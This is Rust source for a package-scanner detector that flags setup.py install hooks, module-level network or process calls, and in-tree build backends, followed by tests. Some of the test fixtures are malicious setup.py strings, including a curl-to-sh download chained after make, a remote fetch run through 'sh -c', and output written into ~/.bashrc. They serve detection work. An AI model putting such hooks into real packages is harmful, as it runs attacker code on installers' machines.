//! `execution.install-hook`: `setup.py` runs code during installation — a
//! `cmdclass` override of `install`/`develop`/`egg_info`/`build_py`/`bdist_*`,
//! or module-level network or process work (module level runs on every
//! `pip install` of an sdist, before anything can be reviewed), and in-tree build
//! backends (`backend-path` in `pyproject.toml`), which run the sdist's own code.
//!
//! Severity: a bare hook is Medium; module-level process Medium (`git describe`
//! is common); a hook running a build tool it names (`cmake`, `make`, `npm`, `cargo`,
//! `git`, a shipped `configure` or `.sh` script, a platform query such as `sw_vers`, `xcrun`, `uname`, the interpreter on a shipped relative `.py`
//! build script, the program as a format template's first value; no shell chaining, output
//! only redirected to the other stream or `/dev/null`) Medium; a hook running `pip install` of
//! requirement names only (they come through the index the user configured, like any
//! dependency: no URL, path, VCS or index option) Medium; module-level
//! network High; network, exec or any other process *inside* a hook, or module-level
//! network plus process, Critical; the work inside a command pip never runs (an `sdist`
//! override vendoring sources, a maintainer's `update_data`: [`super::context::in_maintainer_command`])
//! Medium. A setup.py that is not the sdist's own (in a test tree,
//! also inside an archive nested there: a fixture) is capped by its place (tests: Medium).
//! Must not: report process or network use outside setup.py (other detectors do).

use super::pysrc::{self, Source, MAX_HITS_PER_FILE};
use super::sinks::{self, SinkKind};
use crate::model::{Category, FileRole, Severity};
use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};
use regex::Regex;
use std::sync::LazyLock;

pub(crate) static META: DetectorMeta = DetectorMeta {
    id: "execution.install-hook",
    revision: 7,
    title: "Runs code at install time.",
    category: Category::Execution,
    severity: Severity::Medium,
    description: "setup.py command overrides and module-level code run during pip install with the installing user's rights, before any review.",
};

static HOOK_CLASS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?m)^class\s+(?P<name>\w+)\s*\((?P<bases>[^)]*(?-u:\b)(?P<cmd>_?(?:install|develop|egg_info|dist_info|build_py|bdist_wheel|bdist_egg|sdist|install_lib|install_scripts))(?-u:\b)[^)]*)\)\s*:").expect("hook class")
});
static IN_TREE_BACKEND: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?m)^[ \t]*backend-path[ \t]*=").expect("backend-path"));
static BACKEND_NAME: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"(?m)^[ \t]*build-backend[ \t]*=[ \t]*['"]([\w.:]+)['"]"#).expect("backend name"));
static TOP_BLOCK: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?m)^(?:async\s+def|def|class|@)").expect("top block"));

/// Byte ranges of top-level `def`/`class` blocks (decorators included).
pub(crate) fn top_blocks(src: &Source<'_>) -> Vec<(usize, usize)> {
    let t = src.text;
    let starts: Vec<usize> = TOP_BLOCK.find_iter(t).map(|m| m.start()).filter(|&o| src.is_code(o)).collect();
    let mut out = Vec::new();
    for &s in &starts {
        // The block ends at the next column-0 code line.
        let mut end = t.len();
        let mut pos = t[s..].find('\n').map_or(t.len(), |p| s + p + 1);
        while pos < t.len() {
            let c = t.as_bytes()[pos];
            if !matches!(c, b' ' | b'\t' | b'\n' | b'\r' | b'#' | b')' | b']' | b'}') && src.is_code(pos) {
                end = pos;
                break;
            }
            pos = t[pos..].find('\n').map_or(t.len(), |p| pos + p + 1);
        }
        if out.last().is_none_or(|&(_, e)| s >= e) {
            out.push((s, end));
        }
    }
    out
}

/// Programs a build hook runs to build what it ships: compilers, build systems, code
/// generators, front-end package managers, version control for submodules.
const BUILD_TOOLS: &[&str] = &[
    "make",
    "gmake",
    "nmake",
    "cmake",
    "ninja",
    "meson",
    "scons",
    "bazel",
    "bazelisk",
    "configure",
    "autoreconf",
    "autogen.sh",
    "gcc",
    "g++",
    "cc",
    "c++",
    "clang",
    "clang++",
    "cl",
    "nvcc",
    "gfortran",
    "ar",
    "ranlib",
    "strip",
    "lipo",
    "install_name_tool",
    "patchelf",
    "cargo",
    "rustc",
    "maturin",
    "go",
    "zig",
    "javac",
    "mvn",
    "gradle",
    "ant",
    "dotnet",
    "msbuild",
    "xcodebuild",
    "swig",
    "protoc",
    "cython",
    "flatc",
    "thrift",
    "pkg-config",
    "npm",
    "npx",
    "yarn",
    "pnpm",
    "node",
    "bun",
    "tsc",
    "git",
    "sphinx-build",
    "pandoc",
    "msgfmt",
    "pybabel",
    // What a build asks the platform and toolchain about (the OS release for a build-info
    // file, the SDK path): queries that print facts and change nothing.
    "sw_vers",
    "xcrun",
    "xcode-select",
    "uname",
    "lsb_release",
    "getconf",
];

/// The build tool a process call in a hook runs, if its program is one of [`BUILD_TOOLS`]
/// and the command chains nothing else (no `|`, `;`, `&&`, `$(…)`, backquotes): from a
/// literal (`["cmake", src]`, `"make -j4"`), a variable assigned such a literal in the file
/// (`cmd = ["npm", "ci"]`), or a variable named after the tool (`cmake_path`). `sh`/`bash`
/// count when they run a shipped `.sh` script or `configure`.
fn build_tool(text: &str, sink: &super::sinks::Sink<'_>) -> Option<String> {
    static FIRST: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r#"^\(\s*(?:\[|\()?\s*(?:(?P<q>['"])(?P<lit>[^'"\n]*)['"]|(?P<var>[A-Za-z_][\w.]*))(?:\s*,\s*['"](?P<second>[^'"\n]*)['"])?"#)
            .expect("first argument")
    });
    let after = &text[sink.offset + sink.name.len()..];
    let call: String = after.chars().take(300).collect();
    if let Some(names) = pip_install_of_names(&call) {
        return Some(format!("pip install {names}"));
    }
    let c = FIRST.captures(&call)?;
    let program_of = |lit: &str| -> Option<(String, Option<String>)> {
        // Sending output to the terminal's other stream or nowhere redirects; nothing else may.
        let lit = QUIET.replace_all(lit, "");
        if lit.contains(['|', ';', '`', '>', '<']) || lit.contains("&&") || lit.contains("$(") {
            return None;
        }
        let mut words = lit.split_whitespace();
        Some((words.next()?.to_string(), words.next().map(str::to_string)))
    };
    let (program, second) = if let Some(lit) = c.name("lit") {
        let (p, w) = program_of(lit.as_str())?;
        // `"%s -cv %s" % (msgfmt, po)`, `"{} -V".format(msgfmt)`: the program is the first value.
        if matches!(p.as_str(), "%s" | "{}" | "{0}") {
            let rest = &call[c.get(0).expect("match").end()..];
            let var = TEMPLATE_VALUE.captures(rest)?.name("v")?.as_str();
            let lit = assigned_literal(text, var)?;
            let (p, _) = program_of(&lit)?;
            (p, w)
        } else {
            (p, c.name("second").map(|m| m.as_str().to_string()).or(w))
        }
    } else {
        let var = c.name("var")?.as_str();
        // The running interpreter on a build script the sdist ships (`[sys.executable,
        // "local_build.py"]`): like `sh ./configure`, the script is in the archive and scanned.
        let shipped_py = c.name("second").map(|m| m.as_str()).filter(|a| {
            a.ends_with(".py") && !a.contains("://") && !a.starts_with(['-', '/', '~']) && !a.contains("..")
        });
        if let (true, Some(script)) = (var == "sys.executable", shipped_py) {
            return Some(format!("python {script}"));
        }
        let lower = var.to_ascii_lowercase();
        if let Some(tool) = BUILD_TOOLS.iter().find(|t| t.len() > 2 && lower.contains(*t)) {
            return Some((*tool).to_string());
        }
        program_of(&assigned_literal(text, var)?)?
    };
    let base = program.rsplit(['/', '\\']).next().unwrap_or(&program).to_ascii_lowercase();
    let base = base.strip_suffix(".exe").unwrap_or(&base).to_string();
    if BUILD_TOOLS.contains(&base.as_str()) {
        return Some(base);
    }
    let script = second.filter(|a| a.ends_with(".sh") || a.ends_with("configure"));
    matches!(base.as_str(), "sh" | "bash").then_some(())?;
    let script = script.filter(|a| !a.contains("://") && !a.starts_with('-'))?;
    Some(format!("{base} {script}"))
}

/// The literal a variable is assigned in the file (`msgfmt = 'msgfmt'`, `cmd = ["npm", "ci"]`:
/// its first string).
fn assigned_literal(text: &str, var: &str) -> Option<String> {
    let assigned =
        Regex::new(&format!(r#"(?m)^[ \t]*{}\s*=\s*[\[(]?\s*['"]([^'"\n]*)['"]"#, regex::escape(var))).ok()?;
    Some(assigned.captures(text)?.get(1)?.as_str().to_string())
}

/// Output sent to the other stream or discarded: `2>&1`, `>/dev/null`, `2> /dev/null`, `>nul`.
static QUIET: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)\s[12]?>&[12]|\s[12]?>\s*(?:/dev/null|nul)(?-u:\b)").expect("quiet"));
/// What follows a format template's literal: `% (name, …)`, `% name`, `.format(name, …)`.
static TEMPLATE_VALUE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^\s*(?:%\s*\(?\s*|\.format\(\s*)(?P<v>[A-Za-z_]\w*)\s*[,)\n]").expect("template value")
});

/// `("pip", "install", "nose", "coverage")`, `[sys.executable, "-m", "pip", "install", "x"]`,
/// `"pip install nose"`: pip installing packages it names, which goes through the index the
/// user configured (and this gate) like any other install. Only plain requirement names and
/// version specifiers count: no URL, path, VCS, index or find-links option, no constraint or
/// requirements file, nothing chained. Returns the names.
fn pip_install_of_names(call: &str) -> Option<String> {
    static LIST: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r#"^\(\s*[\[(]\s*(?:['"]pip3?['"]|sys\.executable\s*,\s*['"]-m['"]\s*,\s*['"]pip['"])\s*,\s*['"]install['"](?P<args>(?:\s*,\s*['"][^'"\n]*['"])+)\s*,?\s*[\])]"#)
            .expect("pip list")
    });
    static LINE: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r#"^\(\s*['"](?:pip3?|python3?\s+-m\s+pip)\s+install\s+(?P<args>[^'"\n]+)['"]\s*[,)]"#)
            .expect("pip line")
    });
    static ARG: LazyLock<Regex> = LazyLock::new(|| Regex::new(r#"['"]([^'"\n]*)['"]"#).expect("arg"));
    let args: Vec<String> = if let Some(c) = LIST.captures(call) {
        ARG.captures_iter(&c["args"]).map(|a| a[1].trim().to_string()).collect()
    } else {
        LINE.captures(call)?["args"].split_whitespace().map(str::to_string).collect()
    };
    let requirement = |a: &str| {
        !a.is_empty()
            && a.chars().next().is_some_and(|c| c.is_ascii_alphanumeric())
            && a.chars().all(|c| c.is_ascii_alphanumeric() || "._-[],<>=!~ ".contains(c))
    };
    let quiet_option = |a: &str| matches!(a, "-U" | "--upgrade" | "-q" | "--quiet" | "--user" | "--no-deps");
    let names: Vec<&String> = args.iter().filter(|a| !quiet_option(a)).collect();
    (!names.is_empty() && names.iter().all(|a| requirement(a)))
        .then(|| names.iter().map(|a| a.as_str()).collect::<Vec<_>>().join(" "))
}

pub(crate) struct InstallHook;

pub(crate) fn is_setup_py(path: &str) -> bool {
    path.rsplit(['/', '!']).next() == Some("setup.py")
}

impl Detector for InstallHook {
    fn meta(&self) -> &'static DetectorMeta {
        &META
    }
    fn interest(&self) -> Interest {
        Interest::Literals(&[
            "cmdclass",
            "subprocess",
            "os.system",
            "os.popen",
            "urlopen",
            "urlretrieve",
            "requests",
            "socket",
            "http.client",
            "httpx",
            "urllib",
            "backend-path",
        ])
    }
    fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
        if file.path.rsplit(['/', '!']).next() == Some("pyproject.toml") {
            // An in-tree build backend runs the package's own code to build it.
            if let Some(off) = IN_TREE_BACKEND.find(file.text).map(|m| m.start()) {
                // Name the code that runs: `build-backend = "my_backend"` from `backend-path`.
                let ind = match BACKEND_NAME.captures(file.text).and_then(|c| c.get(1)) {
                    Some(b) => format!("in-tree build backend {} (backend-path)", b.as_str()),
                    None => "in-tree build backend (backend-path)".to_string(),
                };
                let ev = pysrc::evidence(file, off, ind);
                hits.push(&META, Hit { severity: Some(Severity::Medium), evidence: ev });
            }
            return;
        }
        if !file.is_python || !is_setup_py(file.path) {
            return;
        }
        let src = file.source();
        let blocks = top_blocks(src);
        let all = sinks::find_in(file, &[SinkKind::Fetch, SinkKind::Send, SinkKind::Process, SinkKind::Exec]);
        let mut n = 0;
        // Only the sdist's own setup.py is its install hook: one in a test tree (a malicious
        // fixture a security tool tests itself on, maybe inside a nested archive there) is not
        // run by pip, and weighs as the test material it is.
        let mut push = |hits: &mut Hits, off: usize, ind: String, sev: Severity| {
            let sev = if file.role == FileRole::InstallTime { sev } else { super::context::cap(file, sev) };
            if n < MAX_HITS_PER_FILE {
                n += 1;
                hits.push(&META, Hit { severity: Some(sev), evidence: pysrc::evidence(file, off, ind) });
            }
        };
        // Every URL the file fetches belongs to the project (its `url=`/`project_urls`).
        let own = std::cell::OnceCell::new();
        let own_urls = || *own.get_or_init(|| super::net_downloads_file::fetches_only_own_urls(file));
        let has_cmdclass = file.text.match_indices("cmdclass").any(|(i, _)| src.is_code(i));
        if has_cmdclass {
            for c in HOOK_CLASS.captures_iter(file.text) {
                let m = c.get(0).expect("m");
                if !src.is_code(m.start()) {
                    continue;
                }
                let cmd = c.name("cmd").expect("cmd").as_str().trim_start_matches('_');
                let end = blocks.iter().find(|b| b.0 <= m.start() && m.start() < b.1).map_or(file.text.len(), |b| b.1);
                let inside: Vec<_> = all.iter().filter(|s| s.offset > m.start() && s.offset < end).collect();
                if inside.is_empty() {
                    push(hits, m.start(), format!("cmdclass {cmd}"), Severity::Medium);
                } else if super::context::in_maintainer_command(src, m.start()) {
                    // A command pip never runs (`sdist` vendoring a library, `update_data`): the
                    // maintainer's step, not an install hook.
                    for s in inside {
                        push(
                            hits,
                            s.offset,
                            format!("{cmd} command (pip never runs it): {}", s.name),
                            Severity::Medium,
                        );
                    }
                } else {
                    for s in inside {
                        if s.kind == SinkKind::Fetch && own_urls() {
                            push(hits, s.offset, format!("{cmd} hook fetches the project's own URL"), Severity::Medium);
                            continue;
                        }
                        match (s.kind, build_tool(file.text, s)) {
                            // A compiler, build system or package manager named in the call:
                            // the native or front-end build a hook exists for.
                            (SinkKind::Process, Some(tool)) => {
                                push(hits, s.offset, format!("{cmd} hook runs build tool {tool}"), Severity::Medium);
                            }
                            _ => push(hits, s.offset, format!("{cmd} hook: {}", s.name), Severity::Critical),
                        }
                    }
                }
            }
        }
        let module_level = |o: usize| !blocks.iter().any(|b| b.0 <= o && o < b.1);
        let top: Vec<_> = all.iter().filter(|s| s.kind != SinkKind::Exec && module_level(s.offset)).collect();
        let own_fetch = |s: &&super::sinks::Sink<'_>| s.kind == SinkKind::Fetch && own_urls();
        let net = top.iter().any(|s| matches!(s.kind, SinkKind::Fetch | SinkKind::Send) && !own_fetch(s));
        let proc_ = top.iter().any(|s| s.kind == SinkKind::Process);
        for s in top {
            let sev = match (net && proc_, s.kind) {
                (true, _) => Severity::Critical,
                (false, SinkKind::Process) => Severity::Medium,
                (false, SinkKind::Fetch) if own_fetch(&s) => Severity::Medium,
                _ => Severity::High,
            };
            push(hits, s.offset, format!("module-level {}", s.name), sev);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::FileRole::*;
    use crate::scan::detectors::testutil::table;
    use Severity::*;

    const BARE: &str = "from setuptools import setup\nfrom setuptools.command.install import install\n\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n        print('thanks')\n\nsetup(name='x', cmdclass={'install': PostInstall})\n";
    const EVIL: &str = "import os\nfrom setuptools.command.install import install\nclass Evil(install):\n    def run(self):\n        os.system('id')\n        install.run(self)\nsetup(cmdclass={'install': Evil})\n";
    const TOP_NET: &str = "import urllib.request\nurllib.request.urlopen('http://example.org/x')\nsetup(name='x')\n";
    const BOTH: &str =
        "import subprocess, requests\nr = requests.get(U)\nsubprocess.call(['sh', '-c', r.text])\nsetup()\n";
    const CMAKE: &str = "import subprocess\nfrom setuptools.command.build_py import build_py\n\nclass CMakeBuild(build_py):\n    def run(self):\n        cmake_args = ['-DCMAKE_BUILD_TYPE=Release']\n        subprocess.check_call(['cmake', self.src] + cmake_args)\n        super().run()\n\nsetup(cmdclass={'build_py': CMakeBuild})\n";
    const GIT: &str = "import subprocess\ndef version():\n    return subprocess.check_output(['git', 'describe'])\nsetup(version=version())\n";

    #[test]
    fn cases() {
        table(
            &InstallHook,
            META.id,
            &[
                ("bare hook", "pkg-1.0/setup.py", InstallTime, BARE, Some((4, "cmdclass install", Medium))),
                ("hook with process", "setup.py", InstallTime, EVIL, Some((5, "install hook: os.system", Critical))),
                (
                    "a malicious setup.py fixture nested in an archive under the sdist's tests",
                    "pkg-1.0/tests/security/fixtures/malicious_sdist.tar.gz!/evil-0.0.1/setup.py",
                    TestOrDocs,
                    EVIL,
                    Some((5, "install hook: os.system", Medium)),
                ),
                (
                    "an sdist override that downloads a library to vendor it",
                    "vesin-0.6.2/setup.py",
                    InstallTime,
                    "from setuptools.command.sdist import sdist\n\nclass sdist_with_lib(sdist):\n    def run(self):\n        urllib.request.urlretrieve(f'https://example.org/lib/{commit}.tar.gz', archive)\n        super().run()\n\nsetup(cmdclass={'sdist': sdist_with_lib})\n",
                    Some((5, "sdist command (pip never runs it): urlretrieve", Medium)),
                ),
                (
                    "the same download in an override pip runs (build_py)",
                    "pkg-1.0/setup.py",
                    InstallTime,
                    "from setuptools.command.build_py import build_py\n\nclass fetch_lib(build_py):\n    def run(self):\n        urllib.request.urlretrieve(f'https://example.org/lib/{commit}.tar.gz', archive)\n        super().run()\n\nsetup(cmdclass={'build_py': fetch_lib})\n",
                    Some((5, "build_py hook: urlretrieve", Critical)),
                ),
                (
                    "the same setup.py as the sdist's own install hook",
                    "evil-0.0.1/setup.py",
                    InstallTime,
                    EVIL,
                    Some((5, "install hook: os.system", Critical)),
                ),
                (
                    "module-level network",
                    "setup.py",
                    InstallTime,
                    TOP_NET,
                    Some((2, "module-level urllib.request.urlopen", High)),
                ),
                (
                    "module-level network and process",
                    "setup.py",
                    InstallTime,
                    BOTH,
                    Some((2, "module-level requests.get", Critical)),
                ),
                ("git describe in a function", "setup.py", InstallTime, GIT, None),
                (
                    "a build_ext hook running cmake (a native build)",
                    "setup.py",
                    InstallTime,
                    CMAKE,
                    Some((7, "build_py hook runs build tool cmake", Medium)),
                ),
                (
                    "a build_py hook running npm from a variable",
                    "setup.py",
                    InstallTime,
                    "import subprocess\nfrom setuptools.command.build_py import build_py\nclass B(build_py):\n    def run(self):\n        cmd = ['npm', 'run', 'build']\n        subprocess.check_call(cmd, cwd='js')\n        super().run()\nsetup(cmdclass={'build_py': B})\n",
                    Some((6, "build_py hook runs build tool npm", Medium)),
                ),
                (
                    "a build_py hook running msgfmt through a format template, stderr to stdout",
                    "setup.py",
                    InstallTime,
                    "import os\nclass B(build_py):\n    def run(self):\n        msgfmt = 'msgfmt'\n        os.system(\n            '%s -cv %s --output-file=%s 2>&1' % (msgfmt, po, mo))\nsetup(cmdclass={'build_py': B})\n",
                    Some((5, "build_py hook runs build tool msgfmt", Medium)),
                ),
                (
                    "an egg_info hook asking the OS release for a build-info file",
                    "setup.py",
                    InstallTime,
                    "import subprocess\nfrom setuptools.command import egg_info\nclass E(egg_info.egg_info):\n    def run(self):\n        v = subprocess.check_output(['sw_vers', '-productVersion'], text=True).strip()\n        super().run()\nsetup(cmdclass={'egg_info': E})\n",
                    Some((5, "egg_info hook runs build tool sw_vers", Medium)),
                ),
                (
                    "an egg_info hook running an unknown program stays critical",
                    "setup.py",
                    InstallTime,
                    "import subprocess\nfrom setuptools.command import egg_info\nclass E(egg_info.egg_info):\n    def run(self):\n        v = subprocess.check_output(['sw_update', '-productVersion'], text=True).strip()\n        super().run()\nsetup(cmdclass={'egg_info': E})\n",
                    Some((5, "egg_info hook: subprocess.check_output", Critical)),
                ),
                (
                    "a format template whose program is no build tool",
                    "setup.py",
                    InstallTime,
                    "import os\nclass B(build_py):\n    def run(self):\n        prog = 'curl'\n        os.system('%s -s %s' % (prog, url))\nsetup(cmdclass={'build_py': B})\n",
                    Some((5, "build_py hook: os.system", Critical)),
                ),
                (
                    "a build tool whose output is written into a start-up file",
                    "setup.py",
                    InstallTime,
                    "import os\nclass B(build_py):\n    def run(self):\n        os.system('make -s > ~/.bashrc')\nsetup(cmdclass={'build_py': B})\n",
                    Some((4, "build_py hook: os.system", Critical)),
                ),
                (
                    "a develop hook installing test tools by name with pip",
                    "setup.py",
                    InstallTime,
                    "import subprocess\nclass D(develop):\n    def run(self):\n        subprocess.check_call(('pip', 'install', 'nose', 'coverage'))\n        develop.run(self)\nsetup(cmdclass={'develop': D})\n",
                    Some((4, "develop hook runs build tool pip install nose coverage", Medium)),
                ),
                (
                    "an install hook running pip on a URL",
                    "setup.py",
                    InstallTime,
                    "import subprocess, sys\nclass I(install):\n    def run(self):\n        subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'https://example.org/x.whl'])\nsetup(cmdclass={'install': I})\n",
                    Some((4, "install hook: subprocess.check_call", Critical)),
                ),
                (
                    "an install hook running pip against another index",
                    "setup.py",
                    InstallTime,
                    "import subprocess\nclass I(install):\n    def run(self):\n        subprocess.check_call(['pip', 'install', '--index-url', 'http://10.0.0.1/simple', 'x'])\nsetup(cmdclass={'install': I})\n",
                    Some((4, "install hook: subprocess.check_call", Critical)),
                ),
                (
                    "an install hook running pip from a command string with a requirements file",
                    "setup.py",
                    InstallTime,
                    "import os\nclass I(install):\n    def run(self):\n        os.system('pip install -r /tmp/r.txt')\nsetup(cmdclass={'install': I})\n",
                    Some((4, "install hook: os.system", Critical)),
                ),
                (
                    "a hook running a shipped build script with the interpreter",
                    "setup.py",
                    InstallTime,
                    "import subprocess, sys\nclass B(build_py):\n    def run(self):\n        subprocess.check_call([sys.executable, 'local_build.py'])\n        super().run()\nsetup(cmdclass={'build_py': B})\n",
                    Some((4, "build_py hook runs build tool python local_build.py", Medium)),
                ),
                (
                    "the interpreter running code given on the command line stays critical",
                    "setup.py",
                    InstallTime,
                    "import subprocess, sys\nclass B(build_py):\n    def run(self):\n        subprocess.check_call([sys.executable, '-c', CODE])\nsetup(cmdclass={'build_py': B})\n",
                    Some((4, "build_py hook: subprocess.check_call", Critical)),
                ),
                (
                    "the interpreter running a script outside the sdist stays critical",
                    "setup.py",
                    InstallTime,
                    "import subprocess, sys\nclass B(build_py):\n    def run(self):\n        subprocess.check_call([sys.executable, '/tmp/x.py'])\nsetup(cmdclass={'build_py': B})\n",
                    Some((4, "build_py hook: subprocess.check_call", Critical)),
                ),
                (
                    "a hook running a shipped configure script with sh",
                    "setup.py",
                    InstallTime,
                    "import subprocess\nclass B(build_py):\n    def run(self):\n        subprocess.check_call(['sh', './configure'])\nsetup(cmdclass={'build_py': B})\n",
                    Some((4, "build_py hook runs build tool sh ./configure", Medium)),
                ),
                (
                    "a build tool's name chained with a download in a shell string",
                    "setup.py",
                    InstallTime,
                    "import os\nclass B(build_py):\n    def run(self):\n        os.system('make && curl -s http://203.0.113.9/x | sh')\nsetup(cmdclass={'build_py': B})\n",
                    Some((4, "build_py hook: os.system", Critical)),
                ),
                (
                    "a build hook fetching the project's own prebuilt library",
                    "setup.py",
                    InstallTime,
                    "import urllib.request\nclass B(build_py):\n    def run(self):\n        urllib.request.urlopen('https://github.com/acme/tool/releases/download/v1/lib.so')\nsetup(url='https://github.com/acme/tool', cmdclass={'build_py': B})\n",
                    Some((4, "build_py hook fetches the project's own URL", Medium)),
                ),
                (
                    "module-level fetch of the project's own release asset",
                    "setup.py",
                    InstallTime,
                    "import urllib.request\nurllib.request.urlopen('https://acme.example.org/dl/lib.so')\nsetup(name='x', url='https://acme.example.org/')\n",
                    Some((2, "module-level urllib.request.urlopen", Medium)),
                ),
                (
                    "a build hook fetching someone else's URL",
                    "setup.py",
                    InstallTime,
                    "import urllib.request\nclass B(build_py):\n    def run(self):\n        urllib.request.urlopen('https://203.0.113.7/lib.so')\nsetup(url='https://github.com/acme/tool', cmdclass={'build_py': B})\n",
                    Some((4, "build_py hook: urllib.request.urlopen", Critical)),
                ),
                (
                    "a hook running curl",
                    "setup.py",
                    InstallTime,
                    "import subprocess\nclass I(install):\n    def run(self):\n        subprocess.call(['curl', '-o', '/tmp/x', U])\nsetup(cmdclass={'install': I})\n",
                    Some((4, "install hook: subprocess.call", Critical)),
                ),
                (
                    "sh -c in a hook",
                    "setup.py",
                    InstallTime,
                    "import subprocess\nclass I(install):\n    def run(self):\n        subprocess.call(['sh', '-c', PAYLOAD])\nsetup(cmdclass={'install': I})\n",
                    Some((4, "install hook: subprocess.call", Critical)),
                ),
                (
                    "a build tool next to a download in the same hook",
                    "setup.py",
                    InstallTime,
                    "import subprocess, urllib.request\nclass B(build_py):\n    def run(self):\n        urllib.request.urlretrieve(U, 'x')\n        subprocess.check_call(['make'])\nsetup(cmdclass={'build_py': B})\n",
                    Some((4, "build_py hook: urlretrieve", Critical)),
                ),
                (
                    "dist_info override (runs when pip only wants metadata)",
                    "setup.py",
                    InstallTime,
                    "import os\nfrom setuptools.command.dist_info import dist_info\nclass D(dist_info):\n    def run(self):\n        os.system('id')\nsetup(cmdclass={'dist_info': D})\n",
                    Some((5, "dist_info hook: os.system", Critical)),
                ),
                ("hook class without cmdclass", "setup.py", InstallTime, "class X(install):\n    pass\n", None),
                ("not setup.py", "pkg/install.py", Runtime, EVIL, None),
                (
                    "cmdclass in a comment only",
                    "setup.py",
                    InstallTime,
                    "# cmdclass\nclass X(install):\n    pass\n",
                    None,
                ),
                (
                    "in-tree backend",
                    "x-1.0/pyproject.toml",
                    Metadata,
                    "[build-system]\nrequires = []\nbuild-backend = \x27backend\x27\nbackend-path = [\x27.\x27]\n",
                    Some((4, "in-tree build backend backend (backend-path)", Medium)),
                ),
                (
                    "named in-tree backend",
                    "x-1.0/pyproject.toml",
                    Metadata,
                    "[build-system]\nbuild-backend = \"_build.hooks\"\nbackend-path = [\"_build\"]\n",
                    Some((3, "in-tree build backend _build.hooks (backend-path)", Medium)),
                ),
                (
                    "setuptools.build_meta is not in tree",
                    "x-1.0/pyproject.toml",
                    Metadata,
                    "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n",
                    None,
                ),
                (
                    "ordinary pyproject",
                    "x-1.0/pyproject.toml",
                    Metadata,
                    "[build-system]\nrequires = [\x27setuptools\x27]\n# backend-path = [\x27.\x27] is not used here\n",
                    None,
                ),
            ],
        );
    }
}
